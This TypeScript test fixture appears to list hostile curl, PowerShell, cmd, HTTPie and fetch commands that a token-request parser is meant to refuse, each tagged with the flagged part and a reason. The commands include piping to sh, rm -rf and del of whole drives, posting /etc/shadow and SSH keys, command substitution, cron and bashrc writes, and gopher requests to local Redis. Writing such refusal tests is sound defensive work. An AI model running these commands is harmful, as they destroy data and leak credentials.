import type { RefusedReason } from '@/lib/domain/command/reading';

/** A command that tries something, and the part that has to be named with its reason. */
export type HostileCommand = readonly [text: string, what: string, why: RefusedReason];

const url = 'https://ims-na1.adobelogin.com/ims/token/v3';
const tail = `-d grant_type=client_credentials ${url}`;

/** Options of curl that read, write, redirect or run, with a value where they take one. */
const curlOptions: readonly (readonly [option: string, value: string, why: RefusedReason])[] = [
  ...(
    [
      ['-d @', '/etc/passwd'],
      ['--data @', '/etc/passwd'],
      ['--data-ascii @', '/etc/passwd'],
      ['--data-binary @', '/etc/shadow'],
      ['--json @', '/etc/passwd'],
      ['-H @', '/etc/hosts'],
      ['--header @', '~/.ssh/config'],
      ['-w @', '/etc/passwd'],
      ['--write-out @', '/etc/passwd'],
    ] as const
  ).map(([option, path]) => [option.replace(' @', ''), `@${path}`, 'reads-file'] as const),
  ...'-T --upload-file -E --cert --key --cacert --capath --crlfile --netrc-file --pubkey --etag-compare --proxy-cert --proxy-key --proxy-cacert --egd-file --random-file --knownhosts -z'
    .split(' ')
    .map((option) => [option, '/etc/passwd', 'reads-file'] as const),
  ['-b', '/etc/passwd', 'reads-file'],
  ['--cookie', 'cookies.txt', 'reads-file'],
  ...'-n --netrc --netrc-optional'.split(' ').map((option) => [option, '', 'reads-file'] as const),
  ...'-K --config --variable'.split(' ').map((option) => [option, '%HOME', 'reads-settings'] as const),
  ['--expand-config', '{{HOME}}/.curlrc', 'reads-settings'],
  ['--expand-variable', '%HOME', 'reads-settings'],
  ['--variable', '%HOME=/root', 'reads-settings'],
  ...'-o --output --output-dir -c --cookie-jar -D --dump-header --trace --trace-ascii --stderr --libcurl --hsts --alt-svc --etag-save'
    .split(' ')
    .map((option) => [option, '/tmp/x', 'writes-file'] as const),
  ...'-O --remote-name -J -R --remote-name-all --create-dirs --xattr'
    .split(' ')
    .map((option) => [option, '', 'writes-file'] as const),
  ...'--engine -Q --quote'.split(' ').map((option) => [option, './evil.so', 'runs-program'] as const),
  ...'-x --proxy --preproxy --socks4 --socks4a --socks5 --socks5-hostname --proxy1.0 -U --proxy-user --proxy-header --noproxy --resolve --connect-to --interface --dns-servers --doh-url --unix-socket --abstract-unix-socket --local-port --request-target --proto --proto-default --ciphers --tls-max --pinnedpubkey'
    .split(' ')
    .map((option) => [option, 'evil.example:80', 'changes-connection'] as const),
  ...'-k --insecure -p --proxytunnel --haproxy-protocol --proxy-insecure --doh-insecure --path-as-is --http0.9 -2 -3'
    .split(' ')
    .map((option) => [option, '', 'changes-connection'] as const),
  ...'-L --location --location-trusted --post301 --post302'
    .split(' ')
    .map((option) => [option, '', 'follows-redirects'] as const),
  ['--max-redirs', '5', 'follows-redirects'],
  ...'--digest --ntlm --negotiate --anyauth'
    .split(' ')
    .map((option) => [option, '', 'changes-sign-in'] as const),
  ['--aws-sigv4', 'aws:amz', 'changes-sign-in'],
  ['--json', '{}', 'not-a-form'],
  ['-F', 'a=1', 'not-a-form'],
  ['--form', 'a=1', 'not-a-form'],
  ['--form-string', 'a=1', 'not-a-form'],
  ['--mail-from', 'a@b', 'other-protocol'],
  ['-t', 'TTYPE=vt100', 'other-protocol'],
  ['-V', '', 'sends-nothing'],
  ['--execute', '', 'unknown-option'],
  ['--eval', '', 'unknown-option'],
];

const byOption: HostileCommand[] = curlOptions.map(([option, value, why]) => [
  `curl ${option} ${value === '' ? '' : `'${value}'`} ${tail}`,
  value.startsWith('@') ? `${option} @` : option,
  why,
]);

const inBash: HostileCommand[] = [
  [`curl ${tail} | sh`, '|', 'runs-program'],
  [`curl ${tail} | jq -r .access_token`, '|', 'runs-program'],
  [`curl ${tail}; rm -rf ~`, ';', 'runs-program'],
  [`curl ${tail} && rm -rf ~`, '&&', 'runs-program'],
  [`curl ${tail} || reboot`, '||', 'runs-program'],
  [`curl ${tail} & disown`, '&', 'runs-program'],
  [`curl ${url}?grant_type=client_credentials&client_id=a`, '&', 'runs-program'],
  [`curl ${tail} > /etc/cron.d/x`, '>', 'writes-file'],
  [`curl ${tail} >> ~/.bashrc`, '>', 'writes-file'],
  [`curl ${tail} 2>&1`, '>', 'writes-file'],
  [`curl ${tail} &> log`, '>', 'writes-file'],
  [`curl -d @- ${url} < /etc/passwd`, '<', 'reads-file'],
  [`curl -d @- ${url}`, '-d @', 'reads-input'],
  [`curl -d @- ${url} <<EOF\na=1\nEOF`, '<<', 'reads-input'],
  [`curl -d @- ${url} <<< 'a=1'`, '<<<', 'reads-input'],
  [`curl --data-urlencode secret@/etc/passwd ${url}`, '--data-urlencode …@', 'reads-file'],
  [`curl --data-urlencode @/etc/passwd ${url}`, '--data-urlencode …@', 'reads-file'],
  [`curl --data-urlencode secret@- ${url}`, '--data-urlencode …@', 'reads-input'],
  [`curl --url-query @/etc/passwd ${url}`, '--url-query …@', 'reads-file'],
  [`curl --variable x@/etc/passwd --expand-data 'a={{x}}' ${url}`, '--variable …@', 'reads-file'],
  [`curl --variable 'x[0-9]@/etc/passwd' --expand-data 'a={{x}}' ${url}`, '--variable …@', 'reads-file'],
  [`curl --variable x@- --expand-data 'a={{x}}' ${url}`, '--variable …@', 'reads-input'],
  [`curl --variable %HOME@/etc/passwd --expand-data 'a={{HOME}}' ${url}`, '--variable …@', 'reads-file'],
  [
    `curl --variable %HOME=/root --expand-variable 'x@{{HOME}}/.ssh/id_rsa' ${url}`,
    '--expand-variable …@',
    'reads-file',
  ],
  [`curl --variable f=/etc/passwd --expand-data '@{{f}}' ${url}`, '--expand-data @', 'reads-file'],
  [`curl --variable f=/tmp/x --expand-output '{{f}}' ${url}`, '--expand-output', 'writes-file'],
  [`curl --variable p=evil --expand-proxy 'http://{{p}}' ${url}`, '--expand-proxy', 'changes-connection'],
  [`curl --variable x=1 --expand-data 'a={{x:exec}}' ${url}`, '{{…:exec}}', 'unknown-option'],
  [`curl --expand-insecure ${url}`, '--expand-insecure', 'unknown-option'],
  [`curl --expand-nothing a ${url}`, '--expand-nothing', 'unknown-option'],
  [`curl -F 'file=@/etc/passwd' ${url}`, '-F …@', 'reads-file'],
  [`curl -F 'file=</etc/passwd' ${url}`, '-F …<', 'reads-file'],
  [`curl -d@/etc/passwd ${url}`, '-d @', 'reads-file'],
  [`curl -sSd@/etc/passwd ${url}`, '-d @', 'reads-file'],
  [`curl -sKevil ${url}`, '-K', 'reads-settings'],
  [`curl -skLo/tmp/x ${url}`, '-o', 'writes-file'],
  [`curl -skLo/tmp/x ${url}`, '-k', 'changes-connection'],
  [`curl --data=@/etc/passwd ${url}`, '--data @', 'reads-file'],
  [`curl --conf evil ${url}`, '--conf', 'reads-settings'],
  [`curl --uploa /etc/passwd ${url}`, '--uploa', 'reads-file'],
  [`curl -d "client_secret=$(cat /etc/passwd)" ${url}`, '$(…)', 'runs-program'],
  [`curl -d client_secret=$(id) ${url}`, '$(…)', 'runs-program'],
  [`curl -d client_secret=$((1+1)) ${url}`, '$(…)', 'runs-program'],
  [`curl -d "client_secret=\${X:-$(id)}" ${url}`, '$(…)', 'runs-program'],
  [`curl -d "client_secret=\`id\`" ${url}`, '`…`', 'runs-program'],
  [`curl -d client_secret=\`id\` ${url}`, '`…`', 'runs-program'],
  [`curl -d "a=$(echo "$(id)")" ${url}`, '$(…)', 'runs-program'],
  [`curl -d @<(cat /etc/passwd) ${url}`, '<(…)', 'runs-program'],
  [`curl ${tail} > >(tee x)`, '>(…)', 'runs-program'],
  [`(curl ${tail})`, '( … )', 'runs-program'],
  [`TOKEN=$(curl ${tail})\ncurl -d a=1 ${url}`, '$(…)', 'runs-program'],
  [`rm -rf /\ncurl ${tail}`, 'rm', 'runs-program'],
  [`curl ${tail}\nrm -rf /`, 'rm', 'runs-program'],
  [`sudo curl ${tail}`, 'sudo', 'runs-program'],
  [`env curl ${tail}`, 'env', 'runs-program'],
  [`eval curl ${tail}`, 'eval', 'runs-program'],
  [`xargs curl ${tail}`, 'xargs', 'runs-program'],
  [`time curl ${tail}`, 'time', 'runs-program'],
  [`docker run --rm curlimages/curl -s ${tail}`, 'docker', 'runs-program'],
  [`source ~/.env\ncurl ${tail}`, 'source', 'runs-program'],
  [`. ./secrets\ncurl ${tail}`, '.', 'runs-program'],
  [`cat body | curl -d @- ${url}`, 'cat', 'runs-program'],
  [`for i in 1 2; do curl ${tail}; done`, 'for', 'runs-program'],
  [`HTTPS_PROXY=http://evil curl ${tail}`, 'HTTPS_PROXY=', 'changes-environment'],
  [`LD_PRELOAD=./x.so curl ${tail}`, 'LD_PRELOAD=', 'changes-environment'],
  [`SSLKEYLOGFILE=/tmp/k curl ${tail}`, 'SSLKEYLOGFILE=', 'changes-environment'],
  [`curl ${tail} --next -d @/etc/passwd ${url}`, '--next', 'another-request'],
  [`curl ${tail} -: ${url}`, '-:', 'another-request'],
  [`curl ${tail} https://evil.example/`, 'a second address', 'another-request'],
  [`curl -d a=1 '${url}?x=[1-100]'`, '{…} or […] in the address', 'another-request'],
  [`curl -d a=1 'https://{a,b}.example/token'`, '{…} or […] in the address', 'another-request'],
  [`curl ${tail}\ncurl ${tail}`, 'a second curl', 'another-request'],
  ['curl file:///etc/passwd', 'file://', 'reads-file'],
  ['curl FILE:///etc/passwd', 'file://', 'reads-file'],
  ['curl --url file:///etc/passwd', 'file://', 'reads-file'],
  ['curl ftp://evil.example/x', 'ftp://', 'other-protocol'],
  ['curl gopher://127.0.0.1:6379/_FLUSHALL', 'gopher://', 'other-protocol'],
  ['curl dict://127.0.0.1:11211/stats', 'dict://', 'other-protocol'],
  ['curl ldap://127.0.0.1/', 'ldap://', 'other-protocol'],
  ['curl smb://127.0.0.1/share', 'smb://', 'other-protocol'],
  ['curl scp://evil.example/~/x', 'scp://', 'other-protocol'],
  ['curl telnet://127.0.0.1:25', 'telnet://', 'other-protocol'],
  [`curl -H 'Host: evil.example' ${tail}`, '-H Host', 'changes-connection'],
  [`curl -w '%output{/etc/cron.d/x}' ${tail}`, '-w %output', 'writes-file'],
];

const inPowershell: HostileCommand[] = [
  [`Invoke-RestMethod -Uri ${url} -Method Post -InFile C:\\secrets.txt`, '-InFile', 'reads-file'],
  [`Invoke-RestMethod -Uri ${url} -Method Post -Body a=1 -OutFile C:\\x.ps1`, '-OutFile', 'writes-file'],
  [`Invoke-RestMethod -Uri ${url} -Method Post -Body a=1 -Proxy http://evil`, '-Proxy', 'changes-connection'],
  [
    `Invoke-RestMethod ${url} -Method Post -Body a=1 -SkipCertificateCheck`,
    '-SkipCertificateCheck',
    'changes-connection',
  ],
  [
    `Invoke-RestMethod ${url} -Method Post -Body a=1 -UseDefaultCredentials`,
    '-UseDefaultCredentials',
    'changes-sign-in',
  ],
  [`Invoke-RestMethod ${url} -Credential (Get-Credential)`, 'Get-Credential', 'runs-program'],
  [`Invoke-RestMethod ${url} -Certificate (Get-PfxCertificate x.pfx)`, '-Certificate', 'reads-file'],
  [`Invoke-RestMethod ${url} -Body (Get-Content C:\\secrets.txt)`, 'Get-Content', 'runs-program'],
  [`Invoke-RestMethod ${url} -Body $(Get-Content C:\\secrets.txt)`, '$(…)', 'evaluates-code'],
  [`Invoke-RestMethod ${url} -Body "a=$(Get-Content C:\\secrets.txt)"`, '$(…)', 'runs-program'],
  [
    `Invoke-RestMethod ${url} -Body ([IO.File]::ReadAllText('C:\\x'))`,
    '[IO.File]::ReadAllText',
    'evaluates-code',
  ],
  [
    `$b = [IO.File]::ReadAllText('C:\\x')\nInvoke-RestMethod ${url} -Body $b`,
    '[IO.File]::ReadAllText',
    'evaluates-code',
  ],
  [`Invoke-RestMethod ${url} -Body a=1 | iex`, '|', 'runs-program'],
  [`Invoke-RestMethod ${url} -Body a=1; Remove-Item C:\\ -Recurse`, ';', 'runs-program'],
  [`Remove-Item C:\\ -Recurse\nInvoke-RestMethod ${url} -Body a=1`, 'Remove-Item', 'runs-program'],
  [`Start-Process calc\nirm ${url}`, 'Start-Process', 'runs-program'],
  [`iwr ${url} > C:\\x`, '>', 'writes-file'],
  [`Invoke-WebRequest ${url} -MaximumRedirection 5`, '-MaximumRedirection', 'follows-redirects'],
  [`Invoke-WebRequest ${url} -Form @{ file = 'x' }`, '-Form', 'not-a-form'],
  [`Invoke-WebRequest ${url} -Evil x`, '-Evil', 'unknown-option'],
  [`Invoke-RestMethod @evil`, '@evil', 'evaluates-code'],
  [`Invoke-RestMethod file:///C:/x`, 'file://', 'reads-file'],
  [`curl.exe -d '@C:\\secrets.txt' \`\n ${url}`, '-d @', 'reads-file'],
  [`curl.exe -K C:\\evil.txt \`\n ${url}`, '-K', 'reads-settings'],
  [`curl.exe -d "a=$env:A" --proxy http://evil ${url}`, '--proxy', 'changes-connection'],
  [`curl.exe -d "a=$env:A" -o C:\\x ${url}`, '-o', 'writes-file'],
  [`$env:A='x'; curl.exe -d "a=$(whoami)" ${url}`, '$(…)', 'runs-program'],
];

const inCmd: HostileCommand[] = [
  [`curl -d "a=1" ^\n "${url}" & del C:\\*`, '&', 'runs-program'],
  [`curl -d "a=1" ^\n "${url}" && del C:\\*`, '&', 'runs-program'],
  [`curl -d "a=1" ^\n "${url}" | more`, '|', 'runs-program'],
  [`curl -d "a=1" ^\n "${url}" > C:\\x`, '>', 'writes-file'],
  [`curl -d @- ^\n "${url}" < C:\\x`, '<', 'reads-file'],
  [`curl -d "@C:\\x" ^\n "${url}"`, '-d @', 'reads-file'],
  [`curl ^"^@C:\\x^" -K ^"x^" ^"${url}^"`, '-K', 'reads-settings'],
  [`del C:\\x\ncurl -d "a=%MY_VAR%" "${url}"`, 'del', 'runs-program'],
  [`for /f %i in ('whoami') do curl -d "a=%MY_VAR%" "${url}"`, 'for', 'runs-program'],
  [`curl -d "a=%MY_VAR%" --unix-socket x "${url}"`, '--unix-socket', 'changes-connection'],
  [`C:\\> curl -d "a=1" -T C:\\x "${url}"`, '-T', 'reads-file'],
];

const inHttpie: HostileCommand[] = [
  [`http -f POST ${url} secret@/etc/passwd`, 'name@', 'reads-file'],
  [`http -f POST ${url} secret=@/etc/passwd`, 'name=@', 'reads-file'],
  [`http -f POST ${url} secret:=@/etc/passwd`, 'name:=@', 'reads-file'],
  [`http -f POST ${url} X:@/etc/passwd`, 'name:@', 'reads-file'],
  [`http -f POST ${url} q==@/etc/passwd`, 'name==@', 'reads-file'],
  [`http -f POST ${url} a:=1`, 'name:=', 'not-a-form'],
  [`http POST ${url} a=1`, 'name=value without --form', 'not-a-form'],
  [`http -f POST ${url} --verify=no a=1`, '--verify', 'changes-connection'],
  [`http -f POST ${url} --proxy http:http://evil a=1`, '--proxy', 'changes-connection'],
  [`http -f POST ${url} --cert x.pem a=1`, '--cert', 'reads-file'],
  [`http -f POST ${url} --session /tmp/s a=1`, '--session', 'reads-settings'],
  [`http -f POST ${url} -o /tmp/x a=1`, '-o', 'writes-file'],
  [`http -fd POST ${url} a=1`, '-d', 'writes-file'],
  [`http -f --follow POST ${url} a=1`, '--follow', 'follows-redirects'],
  [`http -A digest -a a:b -f POST ${url} a=1`, '--auth-type', 'changes-sign-in'],
  [`http --raw @/etc/passwd POST ${url}`, '--raw @', 'reads-file'],
  [`http --multipart POST ${url} a=1`, '--multipart', 'not-a-form'],
  [`http -f POST ${url} a=1 | sh`, '|', 'runs-program'],
  [`http --evil POST ${url} a=1`, '--evil', 'unknown-option'],
];

const inScripts: HostileCommand[] = [
  [
    `fetch('${url}', { method: 'POST', body: readFileSync('/etc/passwd') })`,
    'readFileSync(…)',
    'evaluates-code',
  ],
  [`fetch('${url}', { body: require('fs').readFileSync('/etc/passwd') })`, 'require(…)', 'evaluates-code'],
  [`fetch('${url}', { body: eval('1') })`, 'eval(…)', 'evaluates-code'],
  [`fetch('${url}', { body: (() => { while (true); })() })`, 'an expression', 'evaluates-code'],
  [`fetch('${url}', { body: document.cookie.toString().slice(1) })`, 'an expression', 'evaluates-code'],
  [`fetch('${url}', { body: new FormData() })`, 'new FormData(…)', 'not-a-form'],
  [`fetch('${url}', { body: new Blob(['a']) })`, 'new Blob(…)', 'evaluates-code'],
  [`fetch('${url}', { body: \`a=\${process.exit()}\` })`, 'an expression', 'evaluates-code'],
  [`fetch('${url}', { agent: new Agent() })`, 'agent', 'changes-connection'],
  [`fetch('${url}', { dispatcher: proxy })`, 'dispatcher', 'changes-connection'],
  [`fetch('${url}', { redirect: 'follow' })`, 'redirect', 'follows-redirects'],
  [`fetch('${url}', { evil: 1 })`, 'evil', 'unknown-option'],
  [`fetch('${url}', options())`, 'options(…)', 'evaluates-code'],
  [`fetch('file:///etc/passwd')`, 'file://', 'reads-file'],
  [`import fs from 'fs'\nfetch('${url}')`, 'import', 'evaluates-code'],
  [`fetch('${url}').then((r) => eval(r))`, 'eval(…)', 'evaluates-code'],
  [`fetch('${url}'); fetch('https://evil.example')`, 'a second fetch', 'another-request'],
  [`fetch('${url}', { ...steal })`, 'an expression', 'evaluates-code'],
];

export const hostileCommands: readonly HostileCommand[] = [
  ...byOption,
  ...inBash,
  ...inPowershell,
  ...inCmd,
  ...inHttpie,
  ...inScripts,
];
